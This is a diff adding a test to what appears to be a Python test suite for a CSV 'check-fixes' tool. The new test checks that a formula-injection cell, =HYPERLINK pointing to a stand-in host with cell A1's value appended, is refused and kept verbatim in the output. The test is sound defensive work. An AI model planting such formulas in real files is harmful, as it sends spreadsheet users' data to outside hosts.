@@ -1,5 +1,6 @@
 """cordon check-fixes: what it writes, what it leaves alone, and how it ends."""
 
+import csv
 import json
 import os
 from pathlib import Path
@@ -115,3 +116,13 @@ def test_fixes_are_recorded_once_and_the_output_is_whole(case: Path, desk: Desk,
         assert (row["row"], row["device"], row["time"], row["near"]) == (1, "T", at("2026-03-03T12:00Z"), False)
     else:
         assert out.read_text().splitlines()[1].startswith("1,T,2026-03-03T12:00:00Z,SPO/2026/1,Zone A,1,inside,-70.")
+
+
+def test_a_cell_of_any_text_is_that_very_text_in_the_output(case: Path) -> None:
+    cell = '=HYPERLINK("http://example.test/?"&A1,"open")'
+    quoted = '"' + cell.replace('"', '""') + '"'
+    file, out = fixes(case / "fixes.csv", quoted + ROW[1:], f"T,{quoted},50.801,0.0,10"), case / "out.csv"
+    assert counts(file, "--out", out)["refused"] == 1
+    with out.open(newline="") as table, (case / "out.csv.refused.csv").open(newline="") as refused:
+        assert next(csv.DictReader(table))["device"] == cell
+        assert next(csv.DictReader(refused))["value"] == cell
